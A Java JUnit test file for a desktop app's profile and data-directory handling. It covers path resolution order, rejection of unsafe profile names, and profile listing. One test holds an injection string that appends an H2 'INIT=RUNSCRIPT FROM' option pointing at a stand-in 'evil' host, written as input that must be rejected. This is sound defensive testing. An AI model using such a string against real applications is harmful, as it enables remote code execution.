package dev.parley.desktop.profile;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class AppDirectoriesTest {
    @TempDir
    Path dir;

    @Test
    void propertyWinsThenXdgThenHome() {
        assertThat(AppDirectories.resolve("/opt/p", "/xdg", "/home/u")).isEqualTo(Path.of("/opt/p"));
        assertThat(AppDirectories.resolve(null, "/xdg", "/home/u")).isEqualTo(Path.of("/xdg/parley"));
        assertThat(AppDirectories.resolve("", "relative/xdg", "/home/u"))
                .isEqualTo(Path.of("/home/u/.local/share/parley"));
        assertThat(AppDirectories.resolve(null, null, "/home/u")).isEqualTo(Path.of("/home/u/.local/share/parley"));
    }

    @Test
    void dataDirectoryThatCouldInjectH2OptionsIsRejected() {
        assertThatThrownBy(() -> new AppDirectories(Path.of("/tmp/x;INIT=RUNSCRIPT FROM 'http://evil'")))
                .isInstanceOf(InvalidProfileNameException.class);
        assertThatThrownBy(() -> new AppDirectories(Path.of("relative"))).isInstanceOf(InvalidProfileNameException.class);
    }

    @Test
    void profileNamesCannotEscapeOrInject() {
        for (String bad : new String[] {"", "..", ".", "a/b", "../x", "a;b", "A", "-x", "a b", "x".repeat(33), "a\\b",
                "a\u0000"}) {
            assertThatThrownBy(() -> new ProfileName(bad)).as(bad).isInstanceOf(InvalidProfileNameException.class);
        }
        assertThat(new ProfileName("work-2_x").value()).isEqualTo("work-2_x");
    }

    @Test
    void listsOnlyDirectoriesWithAHeader() throws Exception {
        AppDirectories dirs = new AppDirectories(dir);
        assertThat(dirs.listProfiles()).isEmpty();
        Files.createDirectories(dir.resolve("work"));
        Files.writeString(dir.resolve("work").resolve("profile.json"), "{}");
        Files.createDirectories(dir.resolve("empty"));
        Files.createDirectories(dir.resolve("Bad Name"));
        Files.writeString(dir.resolve("Bad Name").resolve("profile.json"), "{}");
        Files.createDirectories(dir.resolve("home"));
        Files.writeString(dir.resolve("home").resolve("profile.json"), "{}");
        assertThat(dirs.listProfiles()).containsExactly(new ProfileName("home"), new ProfileName("work"));
    }
}
